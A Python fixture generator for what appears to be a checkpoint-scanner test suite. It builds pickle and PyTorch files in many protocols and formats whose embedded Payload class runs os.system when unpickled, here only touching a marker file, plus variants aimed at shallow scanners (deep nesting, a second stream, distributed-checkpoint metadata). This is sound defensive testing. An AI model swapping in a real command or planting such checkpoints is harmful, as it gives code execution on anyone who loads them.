"""Checkpoints that run code when unpickled, in every pickle protocol and torch format.

Run as a script with the venv's Python (``python hostile_pickles.py OUT``): it writes each file
with a payload that creates its own marker (``os.system("touch ...")``), then proves each one is
a real attack by loading it the way a careless job would (``torch.load(weights_only=False)``,
``pickle.load``) and checking the marker appeared, removes the markers, and writes ``OUT/index.json``:
``{name: {"marker": path, "ran": bool}}``. The tests then scan the files; no marker may come back.
The same formats without a payload are written beside them as ``good_*``.

In each file the payload comes first: a protocol-0 torch file cannot be loaded past its first
tensor (torch's persistent ids are tuples, protocol 0 writes them as text), and a loader runs
what it met before it fails.
"""
from __future__ import annotations

import io
import json
import os
import pickle
import struct
import sys
import tarfile
from pathlib import Path
from typing import Any


class Payload:
    """Unpickling this runs ``os.system``: what weights_only refuses."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (f"touch {self.marker}",)


def _nested(depth: int, marker: str, proto: int) -> bytes:
    """The payload inside ``depth`` nested lists, built opcode by opcode (pickle.dumps recurses
    and stops near 1,000): MARK ... LIST closes one list, in any protocol."""
    body = pickle.dumps(Payload(marker), protocol=0)[:-1]  # without its STOP
    head = b"\x80" + bytes([proto]) if proto >= 2 else b""
    return head + b"(" * depth + body + b"l" * depth + b"."


def _tar(path: Path, marker: str | None) -> None:
    """torch < 0.4's tar format, written as its legacy_save did: one float storage, no tensors,
    the data pickle referring to the storage by its persistent id (with the payload beside it
    unless ``marker`` is None)."""
    import torch

    storages = io.BytesIO()
    pickle.dump(1, storages, protocol=2)
    pickle.dump((0, "cpu", torch.FloatStorage), storages, protocol=2)
    storages.write(struct.pack("<q", 2) + struct.pack("<2f", 1.0, 2.0))
    pickle.dump([], storages, protocol=2)  # storage views
    tensors = io.BytesIO()
    pickle.dump(0, tensors, protocol=2)
    sentinel = object()

    class _Pickler(pickle.Pickler):
        def persistent_id(self, obj: Any) -> str | None:
            return "0" if obj is sentinel else None

    data = io.BytesIO()
    _Pickler(data, protocol=2).dump({"w": sentinel} if marker is None else {"x": Payload(marker), "w": sentinel})
    with tarfile.open(path, "w", format=tarfile.PAX_FORMAT) as tar:
        for name, buf in (("sys_info", io.BytesIO(pickle.dumps({}, protocol=2))), ("storages", storages),
                          ("tensors", tensors), ("pickle", data)):
            info = tarfile.TarInfo(name)
            info.size = len(buf.getvalue())
            buf.seek(0)
            tar.addfile(info, buf)


def write_good(out: Path) -> None:
    """The same formats and protocols without a payload: a state dict, plain data, nesting."""
    import torch

    sd = {"model": torch.nn.Linear(3, 2).state_dict(), "dtype": torch.bfloat16, "size": torch.Size([2, 3]),
          "step": 7}
    for zip_format in (True, False):
        for proto in range(1, 6):
            torch.save(sd, out / f"good_torch_{'zip' if zip_format else 'legacy'}_p{proto}.pt",
                       pickle_protocol=proto, _use_new_zipfile_serialization=zip_format)
    for proto in range(6):
        (out / f"good_plain_p{proto}.pkl").write_bytes(pickle.dumps({"lr": 1e-3, "step": 7, "name": "x"}, protocol=proto))
    (out / "good_nested5000.pkl").write_bytes(b"(" * 5000 + b"N" + b"l" * 5000 + b".")
    _tar(out / "good_torch_tar.tar", None)
    _dcp(out / "good_dcp", sd)


def _dcp(folder: Path, sd: dict[str, Any]) -> None:
    """torch.distributed.checkpoint in one process (it says so in a warning)."""
    import warnings

    import torch.distributed.checkpoint as dcp

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        dcp.save({k: v for k, v in sd.items() if k != "dtype"}, checkpoint_id=str(folder))


def write_all(out: Path) -> dict[str, dict[str, object]]:
    import torch

    out.mkdir(parents=True, exist_ok=True)
    made: dict[str, str] = {}

    def marker(name: str) -> str:
        made[name] = str(out / f"ran-{name}")
        return made[name]

    for zip_format in (True, False):
        for proto in range(6):
            name = f"torch_{'zip' if zip_format else 'legacy'}_p{proto}.pt"
            torch.save({"x": Payload(marker(name)), "w": torch.zeros(2)}, out / name, pickle_protocol=proto,
                       _use_new_zipfile_serialization=zip_format)
    for proto in range(6):
        name = f"plain_p{proto}.pkl"
        (out / name).write_bytes(pickle.dumps({"x": Payload(marker(name))}, protocol=proto))
    for proto in (0, 4):
        name = f"nested5000_p{proto}.pkl"
        (out / name).write_bytes(_nested(5000, marker(name), proto))
    _tar(out / "torch_tar.tar", marker("torch_tar.tar"))
    # DCP's .metadata, which its reader loads with pickle.load, whatever weights_only says.
    name = "dcp_metadata"
    _dcp(out / name, {"model": {"w": torch.zeros(2)}})
    (out / name / ".metadata").write_bytes(pickle.dumps(Payload(marker(name)), protocol=4))
    # A payload after a whole first pickle: pickle.load reads one, a job may read on.
    name = "second_stream.pkl"
    (out / name).write_bytes(pickle.dumps({"w": 1}, protocol=1) + pickle.dumps(Payload(marker(name)), protocol=1))

    index: dict[str, dict[str, object]] = {}
    for name, m in made.items():
        try:
            if name.startswith("torch_"):
                torch.load(out / name, weights_only=False)
            elif name == "dcp_metadata":
                from torch.distributed.checkpoint import FileSystemReader

                FileSystemReader(str(out / name)).read_metadata()
            else:
                with open(out / name, "rb") as f:
                    while True:
                        pickle.load(f)
        except Exception:
            pass  # what it ran before it failed is what counts
        index[name] = {"marker": m, "ran": os.path.exists(m)}
        if os.path.exists(m):
            os.unlink(m)
    write_good(out)
    (out / "index.json").write_text(json.dumps(index, indent=1))
    return index


if __name__ == "__main__":
    write_all(Path(sys.argv[1]))
